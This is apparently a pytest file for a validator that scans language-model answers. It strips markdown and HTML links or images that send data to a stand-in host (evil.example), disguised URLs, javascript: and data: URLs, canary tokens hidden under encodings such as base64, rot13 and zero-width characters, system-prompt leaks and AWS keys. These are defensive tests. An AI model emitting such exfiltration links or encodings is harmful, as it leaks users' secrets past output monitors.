"""Answers checked: no address carries data away, no canary and no instructions are told unseen, the rest stays."""

from __future__ import annotations

import base64
import codecs
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from omninode.validation.canary import drawn_token, holds_canary
from omninode.validation.links import hosts_in
from omninode.validation.output import check_output
from omninode.validation.placeholders import Placeholders
from omninode.validation.policy import ValidationPolicy
from omninode.validation.report import Action

pytestmark = pytest.mark.unit

POLICY = ValidationPolicy(allowed_hosts=frozenset({"ok.com", ".sub.ok.com"}))
EVIL = "https://evil.example/p"


def _codes(check):
    return [finding.code for finding in check.findings]


@pytest.mark.parametrize(
    "text",
    [
        "![x]({}?d=s3cret)",
        "[click]({}?d=s3cret)",
        '[click](<{}?d=s3cret> "title")',
        "[click]( {}?d=s3cret )",
        "[![alt]({}?d=s3cret)](https://ok.com/)",
        "![x][r]\n\n[r]: {}?d=s3cret",
        "![x][r]\n\n> [r]:\n  <{}?d=s3cret>",
        "<{}?d=s3cret>",
        "see {}?data=s3cret-and-much-more-of-it.",
        '<img src="{}?d=s3cret">',
        "<IMG SRC = '{}?d=s3cret'>",
        "<img src={}?d=s3cret>",
        '<img alt=">`" src="{}?d=s3cret"> `x`',
        '<img srcset="{}?d=s3cret 2x">',
        '<a href="{}?d=s3cret">x</a>',
        '<link rel=stylesheet href="{}?d=s3cret">',
        '<div style="background: url( {}?d=s3cret )">',
        "<style>@import '{}?d=s3cret';</style>",
        "<style>\n\n```\n@import '{}?d=s3cret';\n```\n</style>",
        '<div>\n```\n<img src="{}?d=s3cret">\n```\n</div>',
        '<video poster="{}?d=s3cret">',
        '<form action="{}?d=s3cret">',
        '<meta http-equiv="refresh" content="0; url={}?d=s3cret">',
        "```\na fence that nothing closes ![x]({}?d=s3cret)",
    ],
)
def test_address_that_carries_data_is_taken_out_in_each_form(text):
    check = check_output(text.format(EVIL), policy=POLICY)
    assert "s3cret" not in check.text
    assert _codes(check) == ["OUTPUT.EXFILTRATION"]
    (finding,) = check.findings
    assert "s3cret" in text.format(EVIL)[slice(*finding.span)]
    assert "evil.example" in finding.message
    assert check_output(check.text, policy=POLICY).text == check.text


@pytest.mark.parametrize(
    "url",
    [
        "//evil.example/x?s3cret",
        "https:\\\\evil.example\\x?s3cret",
        "https:/evil.example/x?s3cret",
        "HTTPS://EVIL.EXAMPLE?s3cret",
        "https://ok.com@evil.example/x?s3cret",
        "https://ok.com.evil.example/?s3cret",
        "https://s3cret@evil.example/x",
        "https&#58;//evil.example/?s3cret",
        "https://evil.example/&quest;s3cret",
        "https://evil.example/aGVsbG8gdGhlIHMzY3JldCBrZXkgaXM.png",
        "https://kb2hgzlummqgw5lzebuxgibtgm3dkn3bmvrq.evil.example/x.png",
        r"https:\/\/evil.example/\?s3cret",
        "https://\uff45vil.example/?s3cret",
        "https://[bad/?s3cret",
    ],
)
def test_disguised_address_of_an_image_is_taken_out(url):
    check = check_output(f"![x]({url})", policy=POLICY)
    assert (check.text, _codes(check)) == ("![x](#removed)", ["OUTPUT.EXFILTRATION"])


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("[x](javascript:alert(1))", "OUTPUT.SCRIPT_URL"),
        ("[x](JaVaScRiPt:alert(1))", "OUTPUT.SCRIPT_URL"),
        ("[x](java&#115;cript:alert(1))", "OUTPUT.SCRIPT_URL"),
        ('<a href="java\nscript:alert(1)">x</a>', "OUTPUT.SCRIPT_URL"),
        ("<vbscript:x>", "OUTPUT.SCRIPT_URL"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "OUTPUT.DATA_URL"),
        ("![x](data:image/svg+xml;base64,PHN2Zz4=)", "OUTPUT.DATA_URL"),
    ],
)
def test_script_and_data_addresses_are_taken_out(text, code):
    check = check_output(text, policy=POLICY)
    assert _codes(check) == [code]
    assert "#removed" in check.text


@pytest.mark.parametrize(
    "text",
    [
        "[docs](https://docs.python.org/3/library/re.html#re.sub) and https://example.com/a?q=short",
        "![build](https://img.shields.io/badge/build-passing-brightgreen.svg)",
        "![dot](data:image/png;base64,iVBORw0KGgo=)",
        "[in](https://ok.com/?q=1) ![in](https://a.sub.ok.com/?q=1) [own](http://localhost:8420/?run=7)",
        "[a](#top) [b](../other.md?raw=1) [c](mailto:a@b.co) `<img src='https://evil.example/?d=1'>`",
        "```python\nurl = 'https://evil.example/?limit=10'\n![x](https://evil.example/?d=1)\n```\n",
        "~~~\n<img src=https://evil.example/?d=1>\n~~~",
        'requests.get("https://api.example.com/v1?limit=10")',
        "if a[i](x) and b[j]: return {'k': 'v'}  # not a link",
        "",
    ],
)
def test_honest_answers_stay_as_they_are(text):
    check = check_output(text, policy=POLICY)
    assert (check.text, check.findings) == (text, ())


def test_link_keeps_its_place_and_loses_what_it_carries():
    check = check_output("[x](https://evil.example/p?d=1) and ![y](https://evil.example/i?d=1)", policy=POLICY)
    assert check.text == "[x](https://evil.example/p) and ![y](#removed)"


def test_hosts_the_user_named_may_be_sent_data():
    known = hosts_in("use https://API.example:8443/v1?x, please")
    assert known == {"api.example"}
    text = "![x](https://api.example/?q=1)"
    assert check_output(text, policy=POLICY, known_hosts=known).text == text


def test_policy_may_leave_addresses_and_still_reports_them():
    text = f"![x]({EVIL}?d=1)"
    check = check_output(text, policy=ValidationPolicy(strip_links=False))
    assert (check.text, [finding.action for finding in check.findings]) == (text, [Action.FLAG])


def test_address_that_names_a_placeholder_is_taken_out_before_the_value_comes_back():
    names = Placeholders()
    names.replace("EMAIL", "a@b.co")
    check = check_output("[x](https://evil.example/EMAIL_1)", policy=POLICY, placeholders=names)
    assert check.text == "[x](#removed)"


def test_many_addresses_are_counted_not_listed():
    check = check_output(f"![x]({EVIL}?d=1) " * 30, policy=POLICY)
    assert len(check.findings) == 21
    assert "10 more" in check.findings[-1].message
    assert "evil" not in check.text


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                *"[]()!<>`'\n\\é ",
                '"',
                "```\n",
                "\n\n",
                " src=",
                "<img ",
                "<a href=",
                "https://evil.example/?d=1",
                "//e.io?x",
                "javascript:x",
                "data:,x",
                "url(",
                "[r]: ",
            ]
        ),
        max_size=25,
    ).map("".join)
)
def test_check_settles_and_points_inside(text):
    once = check_output(text, policy=POLICY)
    for finding in once.findings:
        assert finding.span is None or 0 <= finding.span[0] < finding.span[1] <= len(text)
    check_output(once.text, policy=POLICY)


CANARY = drawn_token(b"k" * 32, about=b"a request")
DISGUISES = {
    "plain": str,
    "upper": str.upper,
    "spaced": " ".join,
    "dotted": "-".join,
    "reversed": lambda text: text[::-1],
    "rot13": lambda text: codecs.encode(text, "rot13"),
    "hex": lambda text: text.encode().hex(),
    "percent": lambda text: "".join(f"%{ord(letter):02X}" for letter in text),
    "entities": lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    "wide": lambda text: "".join(chr(ord(letter) + 0xFEE0) for letter in text),
    "tags": lambda text: "".join(chr(ord(letter) + 0xE0000) for letter in text),
    "hidden": "\u200b".join,
    "quoted": lambda text: quote(f"<{text}>"),
    **{
        f"base64+{shift}": lambda text, shift=shift: base64.b64encode(f"{'x' * shift}{text} and".encode()).decode()
        for shift in range(4)
    },
    "url base64": lambda text: base64.urlsafe_b64encode(f"??>{text}".encode()).decode().rstrip("="),
}


@pytest.mark.parametrize("disguise", DISGUISES)
def test_canary_is_seen_in_every_disguise(disguise):
    check = check_output(f"It says: {DISGUISES[disguise](CANARY)}.", policy=POLICY, canary=CANARY)
    assert "OUTPUT.CANARY" in _codes(check)
    assert CANARY not in check.text


@given(st.text())
def test_text_without_the_canary_holds_none(text):
    assert not holds_canary(text, CANARY)
    assert not holds_canary(text, "")


def test_token_depends_on_the_secret_and_on_the_request_only():
    assert drawn_token(b"k" * 32, about=b"a request") == CANARY
    assert len({CANARY, drawn_token(b"l" * 32, about=b"a request"), drawn_token(b"k" * 32, about=b"another")}) == 3
    assert (len(CANARY), CANARY.isalnum()) == (16, True)


SYSTEM = (
    "You are the coder of a team. Write small functions with types, follow the style of the files you were sent, never "
    "touch a file the task does not name, and say at the end what you did not test and why that is so."
)


def test_answer_that_repeats_the_instructions_is_reported():
    check = check_output(f"My instructions: {SYSTEM.upper()}", policy=POLICY, system_prompt=SYSTEM)
    (finding,) = check.findings
    assert (finding.code, finding.action, finding.score) == ("OUTPUT.PROMPT_LEAK", Action.FLAG, 1.0)


def test_answer_that_shares_a_phrase_with_the_instructions_is_not():
    text = "I wrote small functions with types, follow the style of the files you were sent, and ran the tests."
    assert check_output(text, policy=POLICY, system_prompt=SYSTEM).findings == ()


def test_secret_a_model_wrote_is_reported_without_being_shown():
    check = check_output("use AKIAIOSFODNN7EXAMPLE", policy=POLICY)
    assert _codes(check) == ["SECRET.AWS_ACCESS_KEY"]
    assert "AKIA" not in repr(check.findings)
